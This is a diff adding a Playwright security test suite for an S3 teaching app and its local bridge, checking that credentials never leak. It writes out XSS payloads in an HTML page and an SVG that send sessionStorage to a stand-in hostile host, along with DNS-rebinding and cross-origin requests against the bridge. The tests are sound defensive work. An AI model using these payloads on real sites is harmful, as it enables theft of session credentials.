@@ -1,0 +1,277 @@
+import { readFile } from 'node:fs/promises';
+import { expect, type Page } from '@playwright/test';
+import { strFromU8, unzipSync } from 'fflate';
+import { launchOptions } from '../../scripts/browser/browser.ts';
+import { told } from '../../scripts/e2e/environment.ts';
+import { unpack } from '../../src/lessons/playground/share-format.ts';
+import { type HostileS3, startHostileS3, victim } from './attacks/hostile-s3.ts';
+import { lookFromTab } from './attacks/tabs.ts';
+import { type Started, startProgram } from './own-s3.ts';
+import { blockNamed, output, test } from './page.ts';
+
+const bucket = 'my-social-app-k3x9';
+const [accessKeyId, ...secrets] = Object.values(victim);
+let hostile: HostileS3;
+let bridge: Started;
+let bridgeUrl: string;
+
+test.beforeAll(async ({ baseURL }) => {
+  hostile = await startHostileS3(new URL(baseURL ?? '').origin, [bucket, 'secret']);
+  bridge = await startProgram(
+    ['src/server/bridge/main.ts', '--port', '0', '--bucket', bucket, '--endpoint', hostile.url],
+    /Code for the page: \S+\n/,
+    {
+      AWS_REGION: 'us-east-1',
+      AWS_ACCESS_KEY_ID: victim.accessKeyId,
+      AWS_SECRET_ACCESS_KEY: victim.secretAccessKey,
+      AWS_SESSION_TOKEN: victim.sessionToken,
+    },
+  );
+  bridgeUrl = /http:\/\/127\.0\.0\.1:\d+/.exec(bridge.printed())?.[0] ?? '';
+});
+test.afterAll(() => {
+  bridge.child.kill();
+  hostile.close();
+});
+
+const expectNoKey = (text: string) => {
+  for (const key of [accessKeyId, ...secrets]) expect(text).not.toContain(key);
+};
+
+async function connect(page: Page): Promise<void> {
+  await page.getByRole('button', { name: /^Connection:/ }).click();
+  const dialog = page.getByRole('dialog');
+  await dialog.getByLabel('Provider').selectOption('other');
+  await dialog.getByLabel('Endpoint').fill(hostile.url);
+  await dialog.getByLabel('Access key ID').fill(victim.accessKeyId);
+  await dialog.getByLabel('Secret access key').fill(victim.secretAccessKey);
+  await dialog.getByLabel('Session token').fill(victim.sessionToken);
+  await dialog.getByLabel('Buckets').fill(bucket);
+  await dialog.getByLabel('Keep the keys until this tab is closed').check();
+  await page.getByRole('button', { name: 'Connect', exact: true }).click();
+  await expect(page.locator('html')).toHaveAttribute('data-connection', 'direct');
+  await page.getByRole('dialog').getByRole('button', { name: 'Close', exact: true }).click();
+  await page.addLocatorHandler(page.getByRole('button', { name: 'Allow changes' }), (button) =>
+    button.click(),
+  );
+}
+
+async function pair(page: Page): Promise<void> {
+  await page.getByRole('button', { name: /^Connection:/ }).click();
+  const dialog = page.getByRole('dialog');
+  await dialog.getByText('Your own S3 with the bridge').click();
+  await dialog.getByLabel('Bridge').fill(bridgeUrl);
+  await dialog.getByLabel('Code').fill([...bridge.printed().matchAll(/page: (\S+)/g)].at(-1)?.[1] ?? '');
+  await dialog.getByRole('button', { name: 'Pair with the bridge' }).click();
+  await expect(page.locator('html')).toHaveAttribute('data-connection', 'bridge');
+  await dialog.getByRole('button', { name: 'Close', exact: true }).click();
+  await page.addLocatorHandler(page.getByRole('button', { name: 'Allow changes' }), (button) =>
+    button.click(),
+  );
+}
+
+/** Opens code by a link, and makes it the reader's own: they have read it. */
+async function takeCode(page: Page, code: string): Promise<void> {
+  await page.evaluate((text) => void (location.hash = `code=${encodeURIComponent(text)}`), code);
+  await page.locator('[data-action="take"]').click();
+}
+
+const presigning = `import { CreateBucketCommand, GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
+import { createPresignedPost } from '@aws-sdk/s3-presigned-post';
+import { getSignedUrl } from '@aws-sdk/s3-request-presigner';
+const s3 = new S3Client({ region: 'us-east-1' });
+const Bucket = 'my-social-app';
+await s3.send(new PutObjectCommand({ Bucket, Key: 'shared.txt', Body: 'shared' }));
+const url = await getSignedUrl(s3, new GetObjectCommand({ Bucket, Key: 'shared.txt' }), { expiresIn: 60 });
+const answer = await fetch(url);
+console.log('read', answer.status, await answer.text());
+const put = await getSignedUrl(s3, new PutObjectCommand({ Bucket, Key: 'put.txt' }), { expiresIn: 60 });
+console.log('put', (await fetch(put, { method: 'PUT', body: 'put' })).status);
+console.log('other', (await fetch(url.replace('shared', 'x'))).status);
+const form = await createPresignedPost(s3, { Bucket, Key: 'posted.txt', Expires: 60 });
+const data = new FormData();
+for (const [name, value] of Object.entries(form.fields)) data.append(name, value);
+data.append('file', new Blob(['posted']), 'posted.txt');
+console.log('posted', (await fetch(form.url, { method: 'POST', body: data })).status);
+console.log('«' + url + '»');
+`;
+
+for (const [way, begin] of [
+  ['directly', connect],
+  ['through the bridge', pair],
+] as const) {
+  test(`what a program presigns works ${way}, for others too, and shows no secret`, async ({ page }) => {
+    await page.goto('playground/');
+    await begin(page);
+    await takeCode(page, presigning);
+    const block = blockNamed(page, 'Playground');
+    await block.getByRole('button', { name: 'Run', exact: true }).click();
+    await expect(block).toHaveAttribute('data-run-state', 'done');
+    const shown = await output(block);
+    for (const line of ['read 200 shared', 'put 200', 'other 403', 'posted 204'])
+      expect(shown).toContain(line);
+    expect(shown).not.toContain(victim.secretAccessKey);
+    const url = /«(\S+)»/.exec(shown)?.[1] ?? '';
+    // Whoever has the address needs no keys; by design it carries the session token, and the ID of the key.
+    expect(url).toContain(encodeURIComponent(victim.sessionToken));
+    expect(await (await fetch(url)).text()).toBe('shared');
+    expect(await (await hostile.asOwner('GET', `/${bucket}/posted.txt`)).text()).toBe('posted');
+  });
+}
+
+test('another tab learns nothing, while requests are sent', async ({ page, context }) => {
+  await page.goto('lessons/first-requests/');
+  await connect(page);
+  const other = await context.newPage();
+  await other.goto('lessons/what-is-s3/');
+  const looking = lookFromTab(other);
+  const block = blockNamed(page, 'Upload a profile picture');
+  await block.getByRole('button', { name: 'Run', exact: true }).click();
+  await expect(block).toHaveAttribute('data-run-state', 'done');
+  expectNoKey(await looking);
+  expectNoKey(await lookFromTab(other));
+  // A tab that this one opens would get a copy of its session storage, were it not told to have no opener.
+  const openers = await page.evaluate(
+    () =>
+      [...document.querySelectorAll('a[target]')].filter(
+        (link) =>
+          (link as HTMLAnchorElement).rel.includes('opener') &&
+          !(link as HTMLAnchorElement).rel.includes('noopener'),
+      ).length,
+  );
+  expect(openers).toBe(0);
+});
+
+test('a program that still runs when the keys are forgotten gets nothing more', async ({ page }) => {
+  await page.goto('playground/');
+  await connect(page);
+  const code = `import { ListObjectsV2Command, S3Client } from '@aws-sdk/client-s3';
+const s3 = new S3Client({ region: 'us-east-1', maxAttempts: 1 });
+for (let turn = 0; turn < 200; turn += 1) {
+  try { await s3.send(new ListObjectsV2Command({ Bucket: 'my-social-app' })); if (turn === 0) console.log('before'); }
+  catch (error) { console.log('after', error.name, error.message); break; }
+  await new Promise((resolve) => setTimeout(resolve, 100));
+}`;
+  const block = blockNamed(page, 'Playground');
+  await takeCode(page, code);
+  await block.getByRole('button', { name: 'Run', exact: true }).click();
+  await expect(block.getByRole('log', { name: 'Output' })).toContainText('before');
+  await page.getByRole('button', { name: /^Connection:/ }).click();
+  await page.getByRole('button', { name: 'Forget keys' }).click();
+  await expect(block.getByRole('log', { name: 'Output' })).toContainText('after AccessDenied');
+});
+
+test('a link and a project hold the code, and nothing of the connection', async ({ page }) => {
+  await page.goto('playground/');
+  await connect(page);
+  await page.getByRole('button', { name: 'Share' }).click();
+  const link = await page.getByRole('textbox', { name: /link/i }).inputValue();
+  expectNoKey(JSON.stringify(unpack(new URL(link).hash.replace('#v1=', ''))) + link);
+  const downloading = page.waitForEvent('download');
+  await page.getByRole('button', { name: 'Download' }).click();
+  const zip = unzipSync(await readFile(await (await downloading).path()));
+  expect(Object.keys(zip).length).toBeGreaterThan(1);
+  for (const [name, bytes] of Object.entries(zip)) expectNoKey(`${name} ${strFromU8(bytes)}`);
+});
+
+test('objects that are pages and pictures do nothing when they are looked at', async ({ page }) => {
+  const script = `fetch('${hostile.elsewhere}/from-object?' + encodeURIComponent(JSON.stringify(Object.entries(top.sessionStorage))))`;
+  await hostile.asOwner(
+    'PUT',
+    `/${bucket}/a-page.html`,
+    `<h1>A page</h1><script>${script}</script><img src="${hostile.elsewhere}/picture" onerror="${script.replaceAll('"', '')}"><link rel="stylesheet" href="${hostile.elsewhere}/style"><iframe src="${hostile.elsewhere}/frame"></iframe><meta http-equiv="refresh" content="0;url=${hostile.elsewhere}/refresh"><a href="javascript:${script.replaceAll('"', '')}">link</a>`,
+    { 'content-type': 'text/html' },
+  );
+  await hostile.asOwner(
+    'PUT',
+    `/${bucket}/b-picture.svg`,
+    `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="${script.replaceAll('"', '').replaceAll('&', '&amp;')}"><script>${script.replaceAll('&', '&amp;')}</script><image href="${hostile.elsewhere}/svg-image"/><rect width="90" height="90" fill="green"/></svg>`,
+    { 'content-type': 'image/svg+xml' },
+  );
+  const before = hostile.caught.length;
+  await page.goto('lessons/first-requests/');
+  await connect(page);
+  const workbench = page.getByRole('complementary', { name: 'Workbench' });
+  await workbench.getByRole('tab', { name: 'Buckets' }).click();
+  await workbench.getByText('a-page.html').first().click();
+  await workbench.getByRole('button', { name: 'Render' }).click();
+  await expect(
+    workbench.locator('iframe').contentFrame().getByRole('heading', { name: 'A page' }),
+  ).toBeVisible();
+  await workbench.locator('iframe').contentFrame().getByText('link').click();
+  await page.goto('lessons/first-requests/');
+  await workbench.getByRole('tab', { name: 'Buckets' }).click();
+  await workbench.getByText('b-picture.svg').first().click();
+  await expect(workbench.getByRole('img', { name: /b-picture/ })).toBeVisible();
+  await page.waitForTimeout(500);
+  expect(hostile.caught.slice(before)).toEqual([]);
+});
+
+test('a page under a name that points to this machine gets nothing from the bridge', async ({
+  playwright,
+}) => {
+  const browser = told('browser');
+  const options = browser ? launchOptions(browser) : {};
+  const own = await playwright.chromium.launch({
+    ...options,
+    args: [...('args' in options ? options.args : []), '--host-resolver-rules=MAP evil.example 127.0.0.1'],
+  });
+  const page = await own.newPage();
+  const { port } = new URL(bridgeUrl);
+  const answers: string[] = [];
+  // The bridge itself answers the name: to the browser page and bridge are of one origin.
+  const opened = await page.goto(`http://evil.example:${port}/`);
+  answers.push(`${opened?.status()} ${await page.content()}`);
+  answers.push(
+    ...(await page.evaluate(async () => {
+      const tries = [
+        fetch('/s3', {
+          headers: { 'x-learn-s3-token': 'x', 'x-learn-s3-address': 'https://s3.us-east-1.amazonaws.com/' },
+        }),
+        fetch('/pair', { method: 'POST', body: 'AAAA-AAAA' }),
+        fetch('/presign', { method: 'POST', body: '{}' }),
+      ];
+      return Promise.all(
+        tries.map(async (one) => {
+          const answer = await one;
+          return `${answer.status} ${await answer.text()}`;
+        }),
+      );
+    })),
+  );
+  for (const answer of answers) expect(answer).toMatch(/^421 .*This bridge answers at 127\.0\.0\.1/s);
+  await own.close();
+});
+
+test('a sandboxed frame, a form and a page in a frame get nothing from the bridge', async ({ browser }) => {
+  // A page of its own: the browser complains there, and is right.
+  const page = await browser.newPage();
+  // On this machine, or the browser would not let it as far as the bridge.
+  await page.goto(hostile.elsewhere);
+  const before = bridge.printed().length;
+  const heard = await page.evaluate(async (url) => {
+    const results: string[] = [];
+    addEventListener('message', ({ data }) => results.push(String(data)));
+    const frame = document.createElement('iframe');
+    frame.setAttribute('sandbox', 'allow-scripts allow-forms');
+    frame.srcdoc = `<form method="post" enctype="text/plain" action="${url}/pair"><input name="AAAA-AAAA"></form><script>
+      Promise.all([fetch('${url}/pair', { method: 'POST', body: 'AAAA-AAAA' }), fetch('${url}/s3', { headers: { 'x-learn-s3-token': 'x' } }), fetch('${url}/s3', { mode: 'no-cors' })]
+        .map((one) => one.then(async (a) => a.status + ' ' + a.type + ' ' + await a.text(), () => 'none')))
+        .then((all) => { parent.postMessage(all.join(' | '), '*'); document.forms[0].submit(); });
+    </script>`;
+    document.body.append(frame);
+    const script = document.createElement('script');
+    script.src = `${url}/s3`;
+    document.body.append(script);
+    const picture = new Image();
+    picture.src = `${url}/s3`;
+    await new Promise((resolve) => setTimeout(resolve, 2_000));
+    return results;
+  }, bridgeUrl);
+  expect(heard).toHaveLength(1);
+  for (const one of (heard[0] ?? '').split(' | ')) expect(one).toMatch(/^(none|0 opaque|403 )/);
+  const refused = bridge.printed().slice(before);
+  expect(refused).toContain('must name its origin');
+  expect(refused).not.toContain('AKIA');
+  await page.close();
+});
